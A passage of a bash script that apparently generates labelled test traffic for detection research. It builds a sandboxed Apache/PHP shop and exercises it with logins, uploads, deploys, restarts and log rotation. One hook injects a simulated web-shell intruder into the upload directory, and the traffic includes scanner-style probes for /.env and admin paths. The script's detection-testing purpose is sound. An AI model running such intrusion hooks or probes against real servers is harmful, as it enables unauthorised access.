        $_SESSION['user'] = $user;
        $_SESSION['since'] = time();
        header('Location: /account.php', true, 303);
        exit;
    }
    http_response_code(401);
}
page_header('Sign in');
echo '<form method="post"><input name="user"><input name="pass" type="password"></form>';
page_footer();
PHP
  cat >"$1/logout.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
resume_session();
if (session_status() === PHP_SESSION_ACTIVE) session_destroy();
header('Location: /', true, 303);
PHP
  cat >"$1/404.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
not_found();
PHP
}

# --- apache -------------------------------------------------------------------------------

APACHE_PORT=18280
APACHE_DIR=$WORK/apache
APACHE_HTDOCS=$APACHE_DIR/htdocs
APACHE_DATA=$APACHE_DIR/data
APACHE_UPLOADS=$APACHE_DATA/uploads

# Apache httpd 2.4 (Debian apache2) with PHP 8.2 through mod_php (libapache2-mod-php, prefork
# MPM: a parent started as root that binds the port, opens the logs and forks workers that
# run as www-data), from its own ServerRoot and config tree (conf/apache2.conf, conf/app.d/),
# not the system service. A small PHP application, root-owned: pages in htdocs/ (no opcache,
# so every request reads its scripts), its library and cron script in app/, a catalogue and
# users in data/; the workers write PHP session files (random names) into sessions/, upload
# temporaries into tmp/, uploaded files into data/uploads/ (served back under /files/ with
# PHP off) and contact messages into data/messages/. Logs in log/ (root-owned, opened by the
# parent).
# apache_users LAST: users.json for user01 .. userLAST, each with the password pw-userNN
# stored as a salted sha256 (as the application's check_login reads it).
apache_users() {
  local i
  echo "{"
  for i in $(seq -w 1 "$1"); do
    printf '  "user%s": "%s"%s\n' "$i" "$(printf 'salt-user%s:pw-user%s' "$i" "$i" | sha256sum | cut -d' ' -f1)" \
      "$([ "$i" = "$1" ] && echo "" || echo ,)"
  done
  echo "}"
}
apache_provision() {
  rm -rf "$APACHE_DIR"
  mkdir -p "$APACHE_DIR"/{conf/app.d,log,run,sessions,tmp} "$APACHE_HTDOCS"/{css,js,img} \
    "$APACHE_DIR/app/lib" "$APACHE_DATA"/{catalog,uploads,messages,reports}
  apache_config
  local i
  for i in $(seq 1 100); do
    printf '{"id": %d, "name": "product %d", "price": %d, "stock": %d}\n' "$i" "$i" $((i * 7 % 90 + 5)) \
      $((i * 13 % 40)) >"$APACHE_DATA/catalog/$i.json"
  done
  apache_users 60 >"$APACHE_DATA/users.json"
  for i in $(seq 1 50); do head -c 1536 /dev/urandom >"$APACHE_HTDOCS/img/$i.png"; done
  head -c 1150 /dev/urandom >"$APACHE_HTDOCS/favicon.ico"
  echo "body { font-family: sans-serif; margin: 2em }" >"$APACHE_HTDOCS/css/site.css"
  echo "document.querySelectorAll('form').forEach(f => f.reset())" >"$APACHE_HTDOCS/js/app.js"
  echo "<html><body>terms of service</body></html>" >"$APACHE_HTDOCS/terms.html"
  apache_app
  chown -R www-data:www-data "$APACHE_DIR"/{sessions,tmp} "$APACHE_UPLOADS" "$APACHE_DATA"/{messages,reports}
  chmod 1733 "$APACHE_DIR/sessions"   # as Debian's /var/lib/php/sessions
  chmod 750 "$APACHE_DIR/log"
}

apache_config() {
  local m=/usr/lib/apache2/modules
  cat >"$APACHE_DIR/conf/apache2.conf" <<CONF
ServerRoot "$APACHE_DIR"
ServerName localhost
Listen 127.0.0.1:$APACHE_PORT
PidFile $APACHE_DIR/run/apache2.pid
DefaultRuntimeDir $APACHE_DIR/run
Mutex file:$APACHE_DIR/run default
User www-data
Group www-data

LoadModule mpm_prefork_module $m/mod_mpm_prefork.so
LoadModule authz_core_module $m/mod_authz_core.so
LoadModule authz_host_module $m/mod_authz_host.so
LoadModule alias_module $m/mod_alias.so
LoadModule dir_module $m/mod_dir.so
LoadModule mime_module $m/mod_mime.so
LoadModule reqtimeout_module $m/mod_reqtimeout.so
LoadModule php_module $m/libphp8.2.so

StartServers 3
MinSpareServers 2
MaxSpareServers 6
MaxRequestWorkers 24
MaxConnectionsPerChild 0
Timeout 30
KeepAlive On
MaxKeepAliveRequests 100
KeepAliveTimeout 5
HostnameLookups Off

ErrorLog $APACHE_DIR/log/error.log
LogLevel warn
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog $APACHE_DIR/log/access.log combined
TypesConfig /etc/mime.types
AddDefaultCharset UTF-8
ServerTokens Prod

DocumentRoot $APACHE_HTDOCS
DirectoryIndex index.php index.html
<Directory />
  Options FollowSymLinks
  AllowOverride None
  Require all denied
</Directory>
<Directory $APACHE_HTDOCS>
  Options FollowSymLinks
  AllowOverride None
  Require all granted
</Directory>
<FilesMatch "^\.ht">
  Require all denied
</FilesMatch>
<FilesMatch ".+\.php$">
  SetHandler application/x-httpd-php
</FilesMatch>
Alias /files/ $APACHE_UPLOADS/
<Directory $APACHE_UPLOADS>
  Options None
  AllowOverride None
  Require all granted
  php_admin_flag engine off
</Directory>
ErrorDocument 404 /404.php

php_admin_value session.save_path $APACHE_DIR/sessions
php_admin_value upload_tmp_dir $APACHE_DIR/tmp
php_admin_value upload_max_filesize 4M
php_admin_value post_max_size 6M
php_admin_flag opcache.enable off
php_admin_flag expose_php off

IncludeOptional $APACHE_DIR/conf/app.d/*.conf
CONF
}

# The application: app/config.php (its paths), app/bootstrap.php, app/lib/*.php, the pages
# in htdocs/, and app/cron.php (its scheduled job, run by the php CLI).
apache_app() {
  cat >"$APACHE_DIR/app/config.php" <<PHP
<?php
const DATA_DIR = '$APACHE_DATA';
const UPLOAD_DIR = '$APACHE_UPLOADS';
const SESSION_DIR = '$APACHE_DIR/sessions';
const APP_RELEASE = '1.0.0';
PHP
  cat >"$APACHE_DIR/app/bootstrap.php" <<'PHP'
<?php
require __DIR__ . '/config.php';
require __DIR__ . '/lib/layout.php';
require __DIR__ . '/lib/catalog.php';
require __DIR__ . '/lib/auth.php';
PHP
  cat >"$APACHE_DIR/app/lib/layout.php" <<'PHP'
<?php
function page_header(string $title): void {
    echo "<!doctype html><html><head><title>" . htmlspecialchars($title) . "</title>";
    echo '<link rel="stylesheet" href="/css/site.css"></head><body>';
    $user = current_user();
    echo $user ? "<p>signed in as " . htmlspecialchars($user) . "</p>" : '<p><a href="/login.php">sign in</a></p>';
}
function page_footer(): void {
    echo '<footer>release ' . APP_RELEASE . '</footer><script src="/js/app.js"></script></body></html>';
}
PHP
  php_not_found >>"$APACHE_DIR/app/lib/layout.php"
  cat >"$APACHE_DIR/app/lib/catalog.php" <<'PHP'
<?php
function product(int $id): ?array {
    $path = DATA_DIR . "/catalog/$id.json";
    if ($id < 1 || !is_file($path)) return null;
    return json_decode(file_get_contents($path), true);
}
function catalog_list(int $first, int $count): array {
    $out = [];
    for ($i = $first; $i < $first + $count; $i++) if ($p = product($i)) $out[] = $p;
    return $out;
}
PHP
  {
    echo '<?php'
    php_session_funcs
    cat <<'PHP'
function check_login(string $user, string $pass): bool {
    $users = json_decode(file_get_contents(DATA_DIR . '/users.json'), true);
    return isset($users[$user]) && hash_equals($users[$user], hash('sha256', "salt-$user:$pass"));
}
function require_user(): string {
    $user = current_user();
    if ($user === null) { header('Location: /login.php'); exit; }
    return $user;
}
PHP
  } >"$APACHE_DIR/app/lib/auth.php"
  cat >"$APACHE_HTDOCS/index.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
page_header('Shop');
foreach (catalog_list(1, 8) as $p) {
    printf('<p><a href="/product.php?id=%d">%s</a> %d EUR</p>', $p['id'], htmlspecialchars($p['name']), $p['price']);
}
page_footer();
PHP
  cat >"$APACHE_HTDOCS/product.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
$p = product((int)($_GET['id'] ?? 0));
if ($p === null) not_found();
page_header($p['name']);
printf('<h1>%s</h1><p>%d EUR, %d in stock</p>', htmlspecialchars($p['name']), $p['price'], $p['stock']);
page_footer();
PHP
  cat >"$APACHE_HTDOCS/about.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
page_header('About');
echo '<p>A small shop, since 2019.</p>';
page_footer();
PHP
  cat >"$APACHE_HTDOCS/search.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
$q = strtolower(trim($_GET['q'] ?? ''));
page_header('Search');
foreach (catalog_list(1, 100) as $p) {
    if ($q !== '' && str_contains($p['name'], $q)) printf('<p><a href="/product.php?id=%d">%s</a></p>', $p['id'], htmlspecialchars($p['name']));
}
page_footer();
PHP
  cat >"$APACHE_HTDOCS/contact.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $line = sprintf("%s\t%s\t%s\n", date('c'), str_replace(["\t", "\n"], ' ', $_POST['email'] ?? ''),
                    str_replace(["\t", "\n"], ' ', $_POST['message'] ?? ''));
    file_put_contents(DATA_DIR . '/messages/' . date('Y-m-d') . '.log', $line, FILE_APPEND | LOCK_EX);
    header('Location: /contact.php?sent=1', true, 303);
    exit;
}
page_header('Contact');
echo isset($_GET['sent']) ? '<p>Thanks.</p>' : '<form method="post"><input name="email"><textarea name="message"></textarea></form>';
page_footer();
PHP
  cat >"$APACHE_HTDOCS/account.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
$user = require_user();
page_header('Your account');
foreach (glob(UPLOAD_DIR . "/$user-*") as $f) {
    printf('<p><a href="/files/%s">%s</a> %d bytes</p>', rawurlencode(basename($f)), htmlspecialchars(basename($f)), filesize($f));
}
echo '<form method="post" action="/upload.php" enctype="multipart/form-data"><input type="file" name="doc"></form>';
page_footer();
PHP
  {
    cat <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
$user = require_user();
PHP
    php_upload_checks
    cat <<'PHP'
move_uploaded_file($f['tmp_name'], UPLOAD_DIR . "/$user-$name");
header('Location: /account.php', true, 303);
PHP
  } >"$APACHE_HTDOCS/upload.php"
  php_site_pages "$APACHE_HTDOCS"
  cat >"$APACHE_DIR/app/cron.php" <<'PHP'
<?php
// The application's scheduled job: expired sessions removed, a report of the uploads.
require __DIR__ . '/config.php';
$opt = getopt('', ['max-age:', 'report:']);
$maxAge = (int)($opt['max-age'] ?? 300);
$removed = 0;
foreach (glob(SESSION_DIR . '/sess_*') as $f) {
    if (filemtime($f) < time() - $maxAge && unlink($f)) $removed++;
}
$uploads = glob(UPLOAD_DIR . '/*');
$report = ['at' => date('c'), 'sessions_removed' => $removed, 'uploads' => count($uploads),
           'upload_bytes' => array_sum(array_map('filesize', $uploads))];
$out = DATA_DIR . '/reports/' . ($opt['report'] ?? 'status') . '.json';
file_put_contents("$out.tmp", json_encode($report) . "\n");
rename("$out.tmp", $out);
PHP
}

APACHE_PID=
# Started as root, as apache2ctl does, but without detaching (NO_DETACH: it stays our child,
# in a session of its own: at its stop, prefork signals its whole process group).
apache_start() {
  launch apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -DNO_DETACH
  APACHE_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/terms.html"
}
# As `apache2ctl stop`: TERM to the parent, which stops its workers.
apache_stop() { stop_pid "$APACHE_PID" TERM; }
# As `apache2ctl graceful` (and Debian's logrotate postrotate): USR1 to the parent, which
# reopens its logs and replaces its workers as they finish their requests.
apache_graceful() {
  kill -USR1 "$APACHE_PID"
  sleep 1
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/terms.html"
}

# apache_get FIRST COUNT ROUND PER CONC PATH...: GETs the paths, PER requests per keep-alive
# connection, CONC connections at a time, from 127.0.0.FIRST .. FIRST+COUNT-1 (spread_get).
apache_get() { spread_get "$APACHE_PORT" 127.0.0 "$1" "$2" 7 5 "$3" "$4" "$5" "${@:6}"; }

APACHE_SEQ=0   # numbers the uploaded files (counted by the mixes, before they start clients)
# apache_curl ARGS...: one request, its answer dropped; a failed one is reported, not fatal.
apache_curl() {
  curl -s --max-time 10 -o /dev/null "$@" || echo "record-testdata: apache: a request failed: ${*: -1}" >&2
}
# apache_session ADDR USER [UPLOAD_NAME SIZE [LOGOUT]]: a customer's visit from 127.0.0.ADDR
# (or from ADDR, if it is a whole address)
# with a cookie jar (outside the cgroup): the sign-in form, the sign-in (a new session), the
# account page, an upload of SIZE random bytes as UPLOAD_NAME and its download from /files/,
# the account page again, and, with LOGOUT, the sign-out (the session file is removed).
# USER "-" is a failed sign-in (no session).
apache_session() {
  local a=127.0.0.$1 user=$2 name=${3:-} size=${4:-0} logout=${5:-} u=http://127.0.0.1:$APACHE_PORT jar pass
  case $1 in *.*) a=$1 ;; esac
  jar=$(mktemp "$WORK/apache-client.XXXXXX")
  local req=(apache_curl --interface "$a" -b "$jar" -c "$jar")
  "${req[@]}" "$u/login.php"
  pass=pw-$user
  if [ "$user" = - ]; then user=user0$((1 + RANDOM % 9)) pass=wrong; fi
  "${req[@]}" --data-urlencode "user=$user" --data-urlencode "pass=$pass" "$u/login.php"
  "${req[@]}" "$u/account.php"
  if [ -n "$name" ] && [ "$pass" != wrong ]; then
    head -c "$size" /dev/urandom >"$jar.up"
    "${req[@]}" -F "doc=@$jar.up;filename=$name" "$u/upload.php"
    "${req[@]}" "$u/files/$user-$(printf %s "$name" | tr -c 'A-Za-z0-9._-' _)"
    "${req[@]}" "$u/account.php"
  fi
  if [ -n "$logout" ]; then "${req[@]}" "$u/logout.php"; fi
  rm -f "$jar" "$jar.up"
}
# apache_contact ADDR: the contact form posted from 127.0.0.ADDR.
apache_contact() {
  apache_curl --interface "127.0.0.$1" -d "email=c$RANDOM@example.com" \
    --data-urlencode "message=order $RANDOM did not arrive" "http://127.0.0.1:$APACHE_PORT/contact.php"
}

# Mix A: the home page, products 1-12, about, the assets, images 1-8, the terms, two missing
# paths (404 through 404.php) over 3 keep-alive clients; two customers sign in, each uploads a
# 2-3 kB invoice-N.pdf and downloads it back, one signs out; a failed sign-in; a contact form.
apache_mix_a() {
  local paths=(/ /index.php /about.php /css/site.css /js/app.js /favicon.ico /terms.html /wp-login.php /.env) i
  for i in $(seq 1 12); do paths+=("/product.php?id=$i"); done
  for i in $(seq 1 8); do paths+=("/img/$i.png"); done
  apache_get 1 1 0 10 3 "${paths[@]}"
  APACHE_SEQ=$((APACHE_SEQ + 2))
  apache_session 1 "user0$((1 + RANDOM % 9))" "invoice-$((APACHE_SEQ - 1)).pdf" $((2048 + RANDOM % 1024)) logout &
  apache_session 1 "user1$((RANDOM % 10))" "invoice-$APACHE_SEQ.pdf" $((2048 + RANDOM % 1024))
  wait $!
  apache_session 1 -
  apache_contact 1
}
# Mix B: products 10-30, search, contact and sign-in forms, images 5-15, other missing paths,
# one client and then eight; four customers (users 20-39) upload 20-60 kB scan-N.png files,
# two sign out; HEAD requests.
apache_mix_b() {
  local paths=(/ /search.php?q=product+2 /search.php?q=product+1 /contact.php /login.php /css/site.css
               /js/app.js /admin.php /phpmyadmin/ /old/index.html) i pids=()
  for i in $(seq 10 30); do paths+=("/product.php?id=$i"); done
  for i in $(seq 5 15); do paths+=("/img/$i.png"); done
  apache_get 1 1 0 10 1 "${paths[@]}"
  apache_get 1 1 0 5 8 "${paths[@]}" "${paths[@]}"
  APACHE_SEQ=$((APACHE_SEQ + 4))
  for i in 1 2 3 4; do
    apache_session 1 "user$((20 + RANDOM % 20))" "scan-$((APACHE_SEQ - 4 + i)).png" $((20000 + RANDOM % 40000)) \
      "$([ $((i % 2)) = 0 ] && echo logout)" &
    pids+=($!)
  done
  wait "${pids[@]}"
  apache_contact 1
  apache_curl -I "http://127.0.0.1:$APACHE_PORT/"
  apache_curl -I "http://127.0.0.1:$APACHE_PORT/product.php?id=12"
}
# apache_cron ARGS...: app/cron.php run by the php CLI as www-data in the cgroup, as its cron
# entry would.
apache_cron() { admin apache www-data /usr/bin/php "$APACHE_DIR/app/cron.php" "$@"; }
# Its scheduled job in training: expired sessions (older than 300 s) removed, the status report.
apache_maintenance() { apache_cron; }

# The generic intruder script as www-data in the upload directory (a web shell or an exploited
# PHP page executing a shell).
apache_inject() { inject_shell apache www-data "$APACHE_UPLOADS"; }
apache_labels() { write_labels apache "$APACHE_UPLOADS"; }

# Held out. Release 1.1 deployed by the operator while the site runs (root, outside the
# cgroup, as a deploy tool would): a blog (blog/index.php, blog/post.php and app/lib/blog.php
# reading data/posts/), an FAQ, a JSON status API, a print stylesheet, blog script, images
# 51-70, static docs, custom 403 and 500 pages (conf/app.d/errors.conf), then a graceful
# restart. Clients from 127.0.0.2-20, 12 at a time, 4 requests per connection, for products
# 15-100 (most never requested) and missing ones, the new pages, images 9-70, directory
# listings refused (403), `.ht` files (403) and other missing paths; six customers (users 30-59)
# from other addresses upload 10 kB-1 MB files of other names and kinds (photos, spreadsheets,
# names with spaces), four keep their sessions; every other round a 5 MB upload refused (413).
# Every 20 s the logs rotated as Debian's logrotate does (rename, gzip of the previous one,
# graceful restart) and the cron job with other arguments. After the restart a hotfix (1.1.1:
# a changed product page, a new API endpoint) and another graceful restart.
apache_heldout_deploy() {
  mkdir -p "$APACHE_HTDOCS"/{blog,api,docs,errors} "$APACHE_DATA/posts"
  local i s
  for s in spring-sale new-warehouse shipping-times gift-cards returns-policy; do
    printf '{"slug": "%s", "title": "%s", "body": "news about %s"}\n' "$s" "$s" "$s" >"$APACHE_DATA/posts/$s.json"
  done
  cat >"$APACHE_DIR/app/lib/blog.php" <<'PHP'
<?php
function posts(): array {
    return array_map(fn($f) => json_decode(file_get_contents($f), true), glob(DATA_DIR . '/posts/*.json'));
}
function post(string $slug): ?array {
    if (!preg_match('/^[a-z0-9-]+$/', $slug) || !is_file(DATA_DIR . "/posts/$slug.json")) return null;
    return json_decode(file_get_contents(DATA_DIR . "/posts/$slug.json"), true);
}
PHP
  cat >"$APACHE_HTDOCS/blog/index.php" <<'PHP'
<?php
require __DIR__ . '/../../app/bootstrap.php';
require __DIR__ . '/../../app/lib/blog.php';
page_header('Blog');
foreach (posts() as $p) printf('<p><a href="/blog/post.php?slug=%s">%s</a></p>', $p['slug'], htmlspecialchars($p['title']));
page_footer();
PHP
  cat >"$APACHE_HTDOCS/blog/post.php" <<'PHP'
<?php
require __DIR__ . '/../../app/bootstrap.php';
require __DIR__ . '/../../app/lib/blog.php';
$p = post((string)($_GET['slug'] ?? ''));
if ($p === null) not_found();
page_header($p['title']);
echo '<article>' . htmlspecialchars($p['body']) . '</article><script src="/js/blog.js"></script>';
page_footer();
PHP
  cat >"$APACHE_HTDOCS/faq.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
page_header('FAQ');
echo '<dl><dt>Shipping?</dt><dd>Two days.</dd><dt>Returns?</dt><dd>Thirty days.</dd></dl>';
page_footer();
PHP
  cat >"$APACHE_HTDOCS/api/status.php" <<'PHP'
<?php
require __DIR__ . '/../../app/config.php';
header('Content-Type: application/json');
$ok = is_dir(DATA_DIR . '/catalog') && is_writable(UPLOAD_DIR);
http_response_code($ok ? 200 : 503);
echo json_encode(['ok' => $ok, 'release' => APP_RELEASE, 'products' => count(glob(DATA_DIR . '/catalog/*.json'))]);
PHP
  for s in 403 500; do
    printf '<?php\nrequire __DIR__ . "/../../app/bootstrap.php";\nhttp_response_code(%s);\npage_header("Error %s");\npage_footer();\n' \
      "$s" "$s" >"$APACHE_HTDOCS/errors/$s.php"
  done
  printf 'ErrorDocument 403 /errors/403.php\nErrorDocument 500 /errors/500.php\n' >"$APACHE_DIR/conf/app.d/errors.conf"
  sed -i "s/^const APP_RELEASE = '1.0.0';/const APP_RELEASE = '1.1.0';/" "$APACHE_DIR/app/config.php"
  echo "@media print { nav, footer { display: none } }" >"$APACHE_HTDOCS/css/print.css"
  echo "console.log('blog')" >"$APACHE_HTDOCS/js/blog.js"
  for i in $(seq 51 70); do head -c 4096 /dev/urandom >"$APACHE_HTDOCS/img/$i.png"; done
  for s in install shipping changelog; do echo "<html><body>docs: $s</body></html>" >"$APACHE_HTDOCS/docs/$s.html"; done
  apache_graceful
}
APACHE_HELDOUT_ROUND=0
apache_heldout_mix() {
  local r=$((APACHE_HELDOUT_ROUND += 1)) i s pids=()
  local paths=(/ /blog/ /faq.php /api/status.php /css/site.css /css/print.css /js/app.js /js/blog.js
               /docs/install.html /docs/shipping.html /docs/changelog.html /robots.txt /img/ /blog/.htaccess
               /.htpasswd /product.php?id=404 /product.php?id=abc /blog/post.php?slug=nope /cart.php /api/v2/orders)
  for s in spring-sale new-warehouse shipping-times gift-cards returns-policy; do paths+=("/blog/post.php?slug=$s"); done
  for i in $(seq $((15 + r % 4)) 4 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((9 + r % 3)) 3 70); do paths+=("/img/$i.png"); done
  apache_get 2 19 "$r" 4 12 "${paths[@]}"
  local names=("IMG_$((4000 + r)).jpeg" "budget $r.xlsx" "photo-$r.webp" "contract_v$r.docx" "notes.$r.txt" "scan $r (2).pdf")
  local sizes=(900000 40000 250000 10000 12000 600000)
  for i in 0 1 2 3 4 5; do
    apache_session $((2 + (r * 6 + i) % 19)) "user$((30 + (r * 6 + i) % 30))" "${names[$i]}" "${sizes[$i]}" \
      "$([ $((i % 3)) = 0 ] && echo logout)" &
    pids+=($!)
  done
  wait "${pids[@]}"
  apache_session $((2 + r % 19)) -
  apache_contact $((2 + (r + 7) % 19))
  if [ $((r % 2)) = 0 ]; then apache_heldout_big_upload $((2 + (r + 3) % 19)); fi
}
# A customer's 5 MB upload, over upload_max_filesize: refused by the application (413).
apache_heldout_big_upload() {
  local jar=$WORK/apache-big u=http://127.0.0.1:$APACHE_PORT
  local req=(apache_curl --interface "127.0.0.$1" -b "$jar" -c "$jar")
  head -c 5000000 /dev/urandom >"$jar.up"
  "${req[@]}" -d user=user45 -d pass=pw-user45 "$u/login.php"
  "${req[@]}" -F "doc=@$jar.up;filename=holiday-video.mp4" "$u/upload.php"
  rm -f "$jar" "$jar.up"
}
# Debian's logrotate for apache2: the logs renamed (the previous rotation gzipped:
# delaycompress), then a graceful restart; and the cron job with other arguments.
apache_heldout_job() {
  local f
  for f in access error; do
    f=$APACHE_DIR/log/$f.log
    if [ -e "$f.1" ]; then gzip -f "$f.1"; mv "$f.1.gz" "$f.2.gz"; fi
    mv "$f" "$f.1"
  done
  apache_graceful
  apache_cron --max-age 20 --report "heldout-$(date +%H%M%S)"
}
apache_heldout_reload() {
  cat >"$APACHE_HTDOCS/api/products.php" <<'PHP'
<?php
require __DIR__ . '/../../app/bootstrap.php';
header('Content-Type: application/json');
echo json_encode(catalog_list(max(1, (int)($_GET['from'] ?? 1)), 10));
PHP
  sed -i "s/^const APP_RELEASE = '1.1.0';/const APP_RELEASE = '1.1.1';/" "$APACHE_DIR/app/config.php"
  sed -i 's|%d EUR, %d in stock|%d EUR (incl. VAT), %d in stock|' "$APACHE_HTDOCS/product.php"
  apache_graceful
  local i
  for i in 1 21 41 61 81; do
    apache_curl --interface "127.0.0.$((3 + i % 17))" "http://127.0.0.1:$APACHE_PORT/api/products.php?from=$i"
  done
}

# Held out, sixth set (heldout6). No deploy. Clients from 127.0.4.1-200 for every sixth
# product and every seventh image (another offset each round), searches with other terms,
# the about and terms pages; customers of users 40-59 from 127.0.0.21-40 (addresses apache
# never served) sign in and keep their sessions, every third round one uploads a 2 MB
# `statement-N.pdf` (under upload_max_filesize: accepted) and downloads it back; each round
# one more request in turn: a failed sign-in, a product id that does not exist, a search
# with quotes and an ampersand, the contact form, OPTIONS on the home page. The change:
# conf/app.d/tuning.conf (StartServers 4, MaxSpareServers 8, mod_expires with a day for
# images and CSS), tested (`apache2 -t`) by the operator inside the cgroup, then a graceful
# restart (USR1 from outside). The maintenance: the cron job with other arguments
# (`--max-age 45 --report hourly`). The late event: a worker killed with SIGKILL (the
# parent forks others as its spare-server count requires).
apache_heldout6_deploy() { :; }
apache_heldout6_mix() {
  local r=$HELDOUT6_ROUND i u=http://127.0.0.1:$APACHE_PORT a
  local terms=(lamp chair "product 7" desk)
  local paths=(/ /about.php /terms.html /css/site.css /js/app.js "/search.php?q=${terms[r % 4]// /+}")
  for i in $(seq $((1 + r % 6)) 6 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 7)) 7 50); do paths+=("/img/$i.png"); done
  heldout6_get "$APACHE_PORT" "${paths[@]}"
  if [ $((r % 3)) = 0 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session $((21 + r % 20)) "user$((40 + r % 20))" "statement-$APACHE_SEQ.pdf" 2000000
  else
    apache_session $((21 + r % 20)) "user$((40 + r % 20))"
  fi
  a=$(heldout6_addr 4)
  case $((r % 5)) in
    0) apache_session $((21 + (r + 9) % 20)) - ;;
    1) curl -s --interface "$a" "$u/product.php?id=$((5000 + r))" ;;
    2) curl -s --interface "$a" -G --data-urlencode 'q="oak table" & chairs' "$u/search.php" ;;
    3) apache_contact $((21 + (r + 4) % 20)) ;;
    4) curl -s --interface "$a" -X OPTIONS "$u/" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout6_change() {
  cat >"$APACHE_DIR/conf/app.d/tuning.conf" <<CONF
StartServers 4
MaxSpareServers 8
LoadModule expires_module /usr/lib/apache2/modules/mod_expires.so
ExpiresActive On
ExpiresByType image/png "access plus 1 day"
ExpiresByType text/css "access plus 1 day"
CONF
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -t
  apache_graceful
  until_ok apache_heldout6_expires
}
# apache_heldout6_expires: images come with the change's Expires header.
apache_heldout6_expires() { curl -sI "http://127.0.0.1:$APACHE_PORT/img/1.png" | grep -qi '^expires:'; }
apache_heldout6_maint() { apache_cron --max-age 45 --report hourly; }
apache_heldout6_late() {
  local w
  w=$(pgrep -P "$APACHE_PID" | head -n 1)
  [ -n "$w" ] || die "no apache worker to kill"
  kill -KILL "$w"
  sleep 1
  until_ok curl -sf "http://127.0.0.1:$APACHE_PORT/terms.html"
}
# Held out, seventh set (heldout7). No deploy. Clients from 127.0.5.1-240 for every fifth
# product and every eighth image (another offset each round), a search, the home page with
# a page number; a customer (users 01-60 in turn) from 127.0.0.41-60 (addresses apache never
# served) signs in, every fourth round uploads a 300 kB `receipt scan N.jpg` (a space in
# its name) and downloads it back, and signs out; one more request in turn: a `.htaccess`
# request (403), HEAD of a product, a failed sign-in, a 1 MB upload the client abandons
# after 0.3 s, the upload directory itself (no listing: 403), a search for a long phrase.
# The maintenance, early: the cron job with other arguments (`--max-age 90 --report
# nightly`). The change, in the quiet period: conf/app.d/limits.conf (MaxRequestWorkers 32,
# KeepAliveTimeout 3, mod_headers with X-Frame-Options), applied by the operator inside
# the cgroup with `apache2 -k graceful` (root, as apache2ctl does). The late event: a
# newsletter goes out: 24 customers sign in at once (the parent forks workers up to the
# load), and the cron job runs again.
apache_heldout7_deploy() { :; }
apache_heldout7_mix() {
  local r=$HELDOUT7_ROUND i u=http://127.0.0.1:$APACHE_PORT a user
  local terms=(sofa "product 4" lamp shelf)
  local paths=(/ "/index.php?page=$((1 + r % 3))" /css/site.css /js/app.js "/search.php?q=${terms[r % 4]// /+}")
  for i in $(seq $((1 + r % 5)) 5 100); do paths+=("/product.php?id=$i"); done
  for i in $(seq $((1 + r % 8)) 8 50); do paths+=("/img/$i.png"); done
  heldout7_get "$APACHE_PORT" "${paths[@]}"
  user=user$(printf %02d $((1 + r * 7 % 60)))
  if [ $((r % 4)) = 0 ]; then
    APACHE_SEQ=$((APACHE_SEQ + 1))
    apache_session $((41 + r % 20)) "$user" "receipt scan $APACHE_SEQ.jpg" 300000 logout
  else
    apache_session $((41 + r % 20)) "$user" "" 0 logout
  fi
  a=$(heldout7_addr 4)
  case $((r % 6)) in
    0) curl -s --interface "$a" "$u/.htaccess" ;;
    1) curl -s --interface "$a" -I "$u/product.php?id=$((1 + r % 100))" ;;
    2) apache_session $((41 + (r + 7) % 20)) - ;;
    3) head -c 1000000 /dev/urandom | curl -s --interface "$a" --max-time 0.3 --limit-rate 300k -F 'doc=@-;filename=big.bin' "$u/upload.php" ;;
    4) curl -s --interface "$a" "$u/files/" ;;
    5) curl -s --interface "$a" -G --data-urlencode "q=solid oak dining table with four matching chairs $r" "$u/search.php" ;;
  esac >/dev/null 2>&1 || true
}
apache_heldout7_maint() { apache_cron --max-age 90 --report nightly; }
apache_heldout7_change() {
  cat >"$APACHE_DIR/conf/app.d/limits.conf" <<CONF
MaxRequestWorkers 32
KeepAliveTimeout 3
LoadModule headers_module /usr/lib/apache2/modules/mod_headers.so
Header always set X-Frame-Options SAMEORIGIN
CONF
  admin apache root /usr/sbin/apache2 -d "$APACHE_DIR" -f "$APACHE_DIR/conf/apache2.conf" -k graceful
  until_ok apache_heldout7_framed
}
# apache_heldout7_framed: answers come with the change's X-Frame-Options header.
apache_heldout7_framed() { curl -sI "http://127.0.0.1:$APACHE_PORT/terms.html" | grep -qi '^x-frame-options: sameorigin'; }
apache_heldout7_late() {
  local i pids=()
  for i in $(seq 1 24); do
    apache_session $((41 + i % 20)) "user$(printf %02d $((i + 30)))" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  apache_cron --max-age 90 --report nightly
}

# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every seventh
# product and every ninth image (another offset each round), about, the terms, the favicon,
# the stylesheet and a search; a customer (users 01-60 in turn) from 127.0.0.81-100
# (addresses apache never served) signs in, every third round uploads a 150 kB
# `expenses-N.csv` and downloads it back, and stays signed in; one more request in turn: a
# signed-in upload of `avatar-N.php` (415), the account page without a session (redirected
# to the sign-in), product 0 (404), an empty POST to the contact form, a TRACE request, a
# byte range of an image. The maintenance: the cron job with other arguments (`--max-age 20
# --report weekly`). The change: conf/app.d/compress.conf (mod_filter and mod_deflate
# compressing HTML, CSS and JavaScript; MaxConnectionsPerChild 200, so workers are replaced
